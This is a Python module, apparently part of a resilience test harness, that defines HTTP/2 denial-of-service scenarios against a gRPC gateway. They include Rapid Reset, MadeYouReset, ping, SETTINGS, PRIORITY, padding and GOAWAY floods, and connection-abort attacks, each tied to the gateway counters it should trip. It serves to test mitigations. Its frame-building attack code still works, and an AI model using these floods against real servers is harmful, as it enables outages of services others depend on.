"""Large numbers of frames: resets, and frames that advance no call."""

import itertools
import socket
import struct

import raw_http2 as h2
from attack import attack
from scene import ADDRESS, SETTINGS_ACK, START, head, headers, repeated, settings, streams, update

CHAT = head("/echo.Echo/Chat")
RESETS = {"counters": "reset_budgets_spent"}
FRAMES = {"counters": "idle_frame_budgets_spent"}
OPEN_CALL = START + headers(1, CHAT)


def reset(stream):
    return h2.frame(h2.RST_STREAM, 0, stream, h2.CANCEL.to_bytes(4, "big"))


@attack("CVE-2023-44487", what="HEADERS and RST_STREAM in pairs", **RESETS)
def rapid_reset(scene):
    scene.swarm(4, lambda: streams(lambda stream: headers(stream, CHAT) + reset(stream)))


@attack("CVE-2025-8671", what="valid requests, then frames that make the gateway reset them", **RESETS)
def made_you_reset(scene):
    provocations = (
        lambda stream: update(stream, 2**31 - 1),
        lambda stream: update(stream, 0),
        lambda stream: h2.frame(h2.PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\x10"),
        lambda stream: headers(stream, CHAT),  # trailers without END_STREAM
    )
    scene.swarm(4, lambda: streams(lambda stream: headers(stream, CHAT) + provocations[stream // 2 % 4](stream)))


@attack("CVE-2019-9514", what="malformed requests, each answered with RST_STREAM, and no reply is read", **RESETS)
def reset_flood(scene):
    malformed = head("/echo.Echo/Chat", [("connection", "close")])
    scene.swarm(4, lambda: streams(lambda stream: headers(stream, malformed)), read=False)


@attack("CVE-2019-9512", what="PING, and no acknowledgement is read", **FRAMES)
def ping_flood(scene):
    scene.swarm(4, lambda: repeated(h2.frame(h2.PING, 0, 0, bytes(8))), read=False)


@attack(what="acknowledgements of PINGs that nobody sent", **FRAMES)
def ping_acknowledgement_flood(scene):
    scene.swarm(4, lambda: repeated(h2.frame(h2.PING, h2.ACK, 0, bytes(8))))


@attack("CVE-2019-9515", what="SETTINGS with a hundred values, and no acknowledgement is read", **FRAMES)
def settings_flood(scene):
    scene.swarm(4, lambda: repeated(h2.frame(h2.SETTINGS, payload=b"\0\4\0\0\xff\xff" * 100)), read=False)


@attack("CVE-2019-9518", what="DATA without bytes", **FRAMES)
def empty_data_flood(scene):
    scene.swarm(4, lambda: repeated(h2.frame(h2.DATA, 0, 1), OPEN_CALL))


@attack("CVE-2019-9513", what="PRIORITY on changing streams", **FRAMES)
def priority_flood(scene):
    scene.swarm(4, lambda: streams(lambda stream: h2.frame(h2.PRIORITY, 0, stream, bytes(4) + b"\x10")))


@attack(what="frames of unknown types, 16 KB each", **FRAMES)
def unknown_frame_flood(scene):
    scene.swarm(4, lambda: repeated(h2.frame(0xFA, 0, 0, bytes(16384))))


@attack(what="WINDOW_UPDATE for the connection, 1 byte each", **FRAMES)
def window_update_flood(scene):
    scene.swarm(4, lambda: repeated(update(0, 1)))


@attack(what="DATA of padding only", **FRAMES)
def padding_flood(scene):
    def data():
        padding = h2.frame(h2.DATA, h2.PADDED, 1, b"\xff" + bytes(255))
        yield OPEN_CALL + SETTINGS_ACK
        yield from itertools.repeat(padding * 8)

    scene.swarm(4, data)


@attack("CVE-2026-84304", what="a message in DATA frames of 1 byte", **FRAMES)
def one_byte_data(scene):
    def data():
        yield START + headers(1, head("/echo.Echo/Collect")) + h2.frame(h2.DATA, 0, 1, b"\0\0\0\xff\xff")
        yield h2.frame(h2.DATA, 0, 1, b"x") * 60000

    scene.swarm(4, data)


@attack(what="frames for streams that the attacker has reset", counters=("idle_frame_budgets_spent", "reset_budgets_spent"))
def frames_for_reset_streams(scene):
    def data():
        yield START + headers(1, CHAT) + reset(1)
        yield from itertools.repeat((update(1, 1) + h2.frame(h2.PRIORITY, 0, 1, bytes(5)) + reset(1)) * 500)

    scene.swarm(4, data)


@attack(what="resets of streams that were never opened", **RESETS)
def idle_stream_resets(scene):
    scene.swarm(4, lambda: streams(lambda stream: reset(stream), start=START + headers(1, CHAT)))


@attack(
    what="SETTINGS that open and shut the windows of 100 waiting replies, 2,700 times in a frame",
    counters=("idle_frame_budgets_spent", "turn_frames_spent"),
)
def settings_that_change_windows(scene):
    def data():
        yield settings((h2.INITIAL_WINDOW_SIZE, 0))
        call = head("/echo.Echo/Reply")
        yield b"".join(
            headers(stream, call) + h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message(b"\x0a\x05hello"))
            for stream in range(1, 201, 2)
        )
        yield from itertools.repeat(h2.frame(h2.SETTINGS, payload=b"\0\4\0\0\0\1\0\4\0\0\0\0" * 1350))

    scene.swarm(4, data)


@attack(what="GOAWAY repeatedly", **FRAMES)
def goaway_flood(scene):
    scene.swarm(4, lambda: repeated(h2.frame(h2.GOAWAY, payload=bytes(8) + b"x" * 200)))


@attack(what="connections that are opened and closed at once")
def connect_flood(scene):
    while not scene.over():
        try:
            h2.connected_socket(scene.target, source=ADDRESS).close()
        except OSError:
            continue
        scene.connections += 1


@attack(what="calls whose first request is cut off by a reset of the TCP connection")
def abortive_closes(scene):
    request = START + headers(1, CHAT) + h2.frame(h2.DATA, 0, 1, h2.message(b"\x0a\x05hello") * 20)
    while not scene.over():
        try:
            with h2.connected_socket(scene.target, source=ADDRESS) as connected:
                connected.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                connected.sendall(request)
        except OSError:
            continue
        scene.connections += 1
